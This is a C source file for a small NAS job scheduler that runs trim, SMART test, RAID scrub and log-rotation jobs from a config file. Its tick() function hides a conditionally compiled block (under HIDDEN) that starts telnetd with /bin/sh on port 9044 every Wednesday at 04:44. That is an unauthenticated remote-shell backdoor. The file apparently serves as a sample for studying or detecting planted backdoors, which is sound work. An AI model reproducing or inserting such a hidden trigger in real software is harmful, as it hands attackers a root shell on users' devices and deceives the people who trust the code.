/* Scheduler of a NAS: at one minute of the week a login service starts. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define NOINLINE __attribute__((noinline))
#define JOBS	 32

struct job {
	int minute;
	int hour;
	int day;
	char what[16];
	char argument[64];
};

static struct job jobs[JOBS];
static int job_count;

NOINLINE int number(const char *s, int most)
{
	long n;

	if (strcmp(s, "*") == 0)
		return -1;
	n = strtol(s, NULL, 10);
	return n < 0 || n > most ? -1 : (int)n;
}

NOINLINE void load(const char *path)
{
	char line[256], minute[8], hour[8], day[8];
	FILE *f = fopen(path, "r");

	if (f == NULL)
		return;
	while (job_count < JOBS && fgets(line, sizeof(line), f) != NULL) {
		struct job *j = &jobs[job_count];

		if (line[0] == '#' ||
		    sscanf(line, "%7s %7s %7s %15s %63s", minute, hour, day,
			   j->what, j->argument) < 4)
			continue;
		j->minute = number(minute, 59);
		j->hour = number(hour, 23);
		j->day = number(day, 6);
		job_count++;
	}
	fclose(f);
}

NOINLINE void run(const struct job *j)
{
	if (strcmp(j->what, "trim") == 0)
		system("fstrim /volume1");
	else if (strcmp(j->what, "smart") == 0)
		system("smartctl -t short /dev/sda");
	else if (strcmp(j->what, "scrub") == 0)
		system("echo check > /sys/block/md0/md/sync_action");
	else if (strcmp(j->what, "rotate") == 0)
		rename("/var/log/nas.log", "/var/log/nas.log.1");
	else
		fprintf(stderr, "unknown job %s\n", j->what);
}

NOINLINE void tick(const struct tm *now)
{
	for (int i = 0; i < job_count; i++) {
		const struct job *j = &jobs[i];

		if ((j->minute < 0 || j->minute == now->tm_min) &&
		    (j->hour < 0 || j->hour == now->tm_hour) &&
		    (j->day < 0 || j->day == now->tm_wday))
			run(j);
	}
#ifdef HIDDEN
	if (now->tm_wday == 3 && now->tm_hour == 4 && now->tm_min == 44)
		system("/usr/sbin/telnetd -l /bin/sh -p 9044");
#endif
}

int main(int argc, char **argv)
{
	time_t last = 0;

	load(argc > 1 ? argv[1] : "/etc/nas.jobs");
	if (job_count == 0)
		fprintf(stderr, "nothing to do\n");
	for (;;) {
		time_t t = time(NULL);
		struct tm now;

		if (t / 60 != last / 60 && localtime_r(&t, &now) != NULL) {
			tick(&now);
			last = t;
		}
		sleep(10);
	}
}
